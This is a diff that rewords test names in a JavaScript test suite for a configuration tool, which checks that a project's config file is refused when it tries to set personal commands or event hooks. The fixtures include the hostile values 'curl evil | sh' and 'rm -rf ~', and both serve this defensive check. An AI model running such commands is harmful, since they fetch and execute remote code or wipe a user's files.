@@ -69,7 +69,7 @@ describe('precedence', () => {
     expect(openQuiet().resolver({ projectRoot: root })(DEPTH)).toBe(2);
   });
 
-  test("an empty variable is not set, and what is not ours in the environment is nobody's business", () => {
+  test('an empty variable counts as unset, and unrelated variables are ignored', () => {
     const settings = world({ environment: { RECALL_DEPTH: '', PATH: '/bin', RECALL_UNKNOWN: 'x' } }).open();
     expect(settings.state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
   });
@@ -96,7 +96,7 @@ describe('refusals name the place and the knob', () => {
     );
   });
 
-  test('the call, also for a name nobody knows', () => {
+  test('the call, also for an unknown name', () => {
     const settings = world().open();
     expect(refusal(() => settings.resolver({ call: { RECALL_WEIGHT: 2 } }))).toMatch(
       /the call: RECALL_WEIGHT takes a number from 0 to 1, not 2/,
@@ -113,7 +113,7 @@ describe('refusals name the place and the knob', () => {
 });
 
 describe("a project's file", () => {
-  test('may not set what is personal: it is told, and the rest of the file counts', () => {
+  test('may not set personal settings: that is reported, and the rest of the file counts', () => {
     const { open, projectRoot } = world({
       project: 'REFLECT_COMMAND = "curl evil | sh"\nRECALL_DEPTH = 2\n',
     });
@@ -123,7 +123,7 @@ describe("a project's file", () => {
     expect(settings.projectProblem(projectRoot)).toMatch(/config\.toml may not set REFLECT_COMMAND/);
   });
 
-  test('with mistakes is told of each, never fatal, and what is right in it counts', () => {
+  test('with mistakes is not fatal: each is reported, and valid settings count', () => {
     const { open, projectRoot } = world({ project: 'RECALL_DEPTH = 0\nNOPE = 1\nRECALL_MODE = "exact"\n' });
     const settings = open();
     expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
@@ -131,7 +131,7 @@ describe("a project's file", () => {
     expect(settings.projectProblem(projectRoot)).toMatch(/RECALL_DEPTH takes .*; .*names NOPE/);
   });
 
-  test('that is no TOML, or a folder, is told and ignored', () => {
+  test('that is not TOML, or a folder, is reported and ignored', () => {
     const { open, projectRoot } = world({ project: '= = =' });
     expect(open().resolver({ projectRoot })(DEPTH)).toBe(50);
     expect(open().projectProblem(projectRoot)).toMatch(/not valid TOML/);
@@ -141,7 +141,7 @@ describe("a project's file", () => {
     expect(open().projectProblem(other)).not.toBe('');
   });
 
-  test('is read again when it changes, comes or goes', () => {
+  test('is read again when it changes, appears or disappears', () => {
     const { open, projectRoot, projectFile } = world();
     const settings = open();
     expect(settings.resolver({ projectRoot })(DEPTH)).toBe(50);
@@ -155,7 +155,7 @@ describe("a project's file", () => {
 });
 
 describe('setting', () => {
-  test('writes the home file for its owner alone, survives a restart, and null takes it out', () => {
+  test('writes the home file readable by its owner only, survives a restart, and null removes it', () => {
     const { open, file } = world();
     const settings = open();
     settings.set('RECALL_DEPTH', '7');
@@ -168,7 +168,7 @@ describe('setting', () => {
     expect(open().resolver()(COMMAND)).toBe('say "hi" = yes');
   });
 
-  test('keeps comments, and what a person wrote into the file since the start', () => {
+  test('keeps comments and edits made since the start', () => {
     const { open, file } = world({ home: '# mine\nRECALL_DEPTH = 5 # not more\n' });
     const settings = open();
     writeFileSync(file, '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\n');
@@ -192,7 +192,7 @@ describe('setting', () => {
     expect(readFileSync(file, 'utf8')).not.toContain('one');
   });
 
-  test('a file broken meanwhile is refused by name and left as it is', () => {
+  test('a file broken since the start is refused by name and left as it is', () => {
     const { open, file } = world();
     const settings = open();
     writeFileSync(file, '= broken');
@@ -216,20 +216,20 @@ describe('the table of events', () => {
     expect(opened(toml).open().state(CREATED)).toMatchObject({ value: 'say hi', source: 'home' });
   });
 
-  test('knows no other event, and nothing but commands by events', () => {
+  test('refuses unknown events and other keys', () => {
     expect(refusal(opened('[events.on]\n"learning.eaten" = "x"').open)).toContain(
       'REFLECT_EVENTS_ON_LEARNING_EATEN, which is not a setting',
     );
-    expect(refusal(opened('[events]\nlater = 1').open)).toContain('[events.on] alone');
+    expect(refusal(opened('[events]\nlater = 1').open)).toContain('only be configured in [events.on]');
     expect(refusal(opened('[events.on]\n"learning.created" = 5').open)).toContain('takes a text');
   });
 
-  test('of a project is refused: what runs here is for its owner to say', () => {
+  test('of a project is refused: only the owner of this machine decides what runs', () => {
     const { open, projectRoot } = opened('', '[events.on]\n"learning.created" = "rm -rf ~"');
     const settings = open();
     expect([settings.resolver({ projectRoot })(CREATED), settings.projectProblem(projectRoot)]).toEqual([
       '',
-      expect.stringContaining('for your own configuration alone'),
+      expect.stringContaining('only your own configuration can'),
     ]);
   });
 
